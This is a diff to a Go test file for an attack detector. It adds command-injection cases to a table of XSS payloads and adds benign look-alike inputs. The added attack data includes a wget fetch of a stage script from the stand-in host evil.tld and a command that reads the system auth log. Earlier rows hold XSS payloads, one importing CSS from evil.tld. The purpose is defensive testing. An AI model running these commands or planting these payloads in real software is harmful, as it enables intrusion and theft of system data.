@@ -106,6 +106,11 @@ var attackCases = []struct {
 	{"xss", "body:json:css", "<style>@import url(//evil.tld/a.css);</style>"},
 	{"xss", "query:q", `<p xmlns:e="http://www.w3.org/2001/xml-events" e:event="click" e:handler="#run">`},
 	{"xss", "query:q", "+ADw-img src=x onerror=alert(1)+AD4-"},
+	{"cmdi", "query:cmd", "if {%2}=={} ..."},
+	{"cmdi", "query:cmd", "IF \"%MODE% x\" == \"debug x\" @start run"},
+	{"cmdi", "query:cmd", "if/I %answer%==yes x"},
+	{"cmdi", "query:cmd", "wget -q -O- http://evil.tld/stage.sh"},
+	{"cmdi", "query:f", "zstdcat /var/log/auth.log.zst"},
 }
 
 // hardBenign are inputs that look like attacks to keyword matchers but are ordinary.
@@ -317,6 +322,10 @@ var hardBenign = []struct{ where, in string }{
 	{"body:json:css", "@import url(https://fonts.example/css) goes first in a stylesheet"},
 	{"body:json:doc", "XML Events live at http://www.w3.org/2001/xml-events, handler attributes follow"},
 	{"query:q", "roadw-script and ADw-1"},
+	{"body:json:code", "if \"a\" == \"b\":\n    print(1)"},
+	{"query:q", "if (x == 1) return"},
+	{"query:q", "curl https://api.example.com returns JSON"},
+	{"query:q", "zstdcat archive.zst"},
 }
 
 func TestDetectAttacks(t *testing.T) {
